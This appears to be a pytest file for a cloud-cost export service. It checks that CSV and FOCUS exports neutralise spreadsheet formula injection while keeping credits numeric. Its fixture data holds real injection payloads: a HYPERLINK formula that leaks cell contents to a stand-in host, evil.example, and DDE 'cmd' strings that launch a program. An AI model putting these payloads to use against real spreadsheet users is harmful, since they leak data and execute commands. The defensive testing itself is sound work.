"""Spreadsheet-safe exports: cells a cloud account or a file controls cannot become formulas
in Excel (OWASP CSV injection), in all three formats; our own negative numbers stay numbers;
the FOCUS file with such cells still passes the FinOps Foundation's validator."""

from __future__ import annotations

import csv
import io
import os
import subprocess
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from core.db.models import Connection, CostLine, Organization, Resource
from core.services.exports import chargeback_rows, iter_export_lines, summary_rows
from renderers.exports.cells import text_cell
from renderers.exports.csv_export import render_chargeback_csv, render_summary_csv
from renderers.exports.focus_export import write_focus_csv
from tests.exports.test_exports import VALIDATOR

DAY = date(2026, 10, 1)
EVIL = {
    "service": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "resource": "+cmd|' /C calc'!A0",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "team": "\t=1+1",
    "env": "\r=1+1",
    "center": "=1+1",
}


async def _seed(session: AsyncSession) -> int:
    org = Organization(slug="evil", name="Evil")
    session.add(org)
    await session.flush()
    conn = Connection(org_id=org.id, kind="focus", name="=HYPERLINK(\"x\")", credentials=b"x")
    session.add(conn)
    await session.flush()
    now = datetime(2026, 10, 1, tzinfo=UTC)
    res = Resource(org_id=org.id, connection_id=conn.id, external_id="r-1",
                   name=EVIL["resource"], kind="server", team=EVIL["team"],
                   environment=EVIL["env"], cost_center=EVIL["center"], project=EVIL["project"],
                   first_seen_at=now, last_seen_at=now)
    session.add(res)
    await session.flush()
    start = datetime(2026, 10, 1, tzinfo=UTC)
    for amount, category in ((Decimal("100.00"), "Usage"), (Decimal("-12.50"), "Credit")):
        session.add(CostLine(
            org_id=org.id, connection_id=conn.id, resource_id=res.id, day=DAY,
            charge_period_start=start, charge_period_end=start + timedelta(days=1),
            billed_cost=amount, effective_cost=amount, billing_currency="USD",
            provider="aws", provider_name="AWS", service_name=EVIL["service"],
            service_category="Compute", charge_category=category,
            resource_name=EVIL["resource"], resource_external_id=EVIL["resource"],
            region_id=EVIL["region"], sub_account_id="-1", sub_account_name=EVIL["project"],
            tags={"owner": "=1+1"}))
    await session.commit()
    return org.id


def _inert(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r" or cell.startswith("'")


def test_text_cell_follows_owasp() -> None:
    assert [text_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "ok", "", None)] \
        == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok", "", ""]


async def test_summary_and_chargeback_neutralise_text_and_keep_negative_numbers(
        session_maker: async_sessionmaker[AsyncSession]) -> None:
    async with session_maker() as session:
        org = await _seed(session)
        summary = render_summary_csv(await summary_rows(session, org, DAY, DAY))
        charge = render_chargeback_csv(await chargeback_rows(session, org, DAY, DAY))
    rows = list(csv.DictReader(io.StringIO(summary.decode("utf-8-sig"))))
    assert rows[0]["service"] == "'" + EVIL["service"]
    assert rows[0]["project"] == "'" + EVIL["project"]
    assert Decimal(rows[0]["cost"]) == Decimal("87.50")
    assert all(_inert(cell) for row in rows for key, cell in row.items() if key != "cost")
    teams = list(csv.DictReader(io.StringIO(charge.decode("utf-8-sig"))))
    assert (teams[0]["team"], teams[0]["environment"], teams[0]["cost_center"]) == (
        "'" + EVIL["team"], "'" + EVIL["env"], "'" + EVIL["center"])
    assert all(_inert(cell) for row in teams for key, cell in row.items() if key != "cost")


async def test_focus_export_neutralises_text_and_keeps_credits_numeric(
        session_maker: async_sessionmaker[AsyncSession]) -> None:
    out = io.StringIO()
    async with session_maker() as session:
        org = await _seed(session)
        await write_focus_csv(iter_export_lines(session, org, DAY, DAY), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    credit = next(r for r in rows if r["ChargeCategory"] == "Credit")
    assert credit["BilledCost"] == "-12.5"  # a number, not text
    assert credit["ServiceName"] == "'" + EVIL["service"]
    assert credit["ResourceName"] == "'" + EVIL["resource"]
    assert credit["RegionId"] == "'" + EVIL["region"]
    assert credit["SubAccountId"] == "'-1"
    assert credit["BillingAccountName"] == "'=HYPERLINK(\"x\")"
    numeric = {"BilledCost", "EffectiveCost", "ListCost", "ContractedCost", "ListUnitPrice",
               "ContractedUnitPrice", "PricingQuantity", "ConsumedQuantity"}
    assert all(_inert(cell) for row in rows for key, cell in row.items() if key not in numeric)


@pytest.mark.slow
async def test_focus_export_with_injection_cells_passes_the_validator(
        sqlite_engine: object, tmp_path: Path) -> None:
    from core.db.engine import session_factory

    maker = session_factory(sqlite_engine)  # type: ignore[arg-type]
    path = tmp_path / "focus.csv"
    async with maker() as session:
        org = await _seed(session)
        with path.open("w", encoding="utf-8", newline="") as handle:
            await write_focus_csv(iter_export_lines(session, org, DAY, DAY), handle)
    if not VALIDATOR.exists():
        pytest.fail(f"validator missing at {VALIDATOR}")
    result = subprocess.run(  # noqa: ASYNC221 - the validator run is the test's subject
        [str(VALIDATOR), str(path)], capture_output=True, text=True, timeout=3000, check=False,
        env={**os.environ})
    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-2000:]
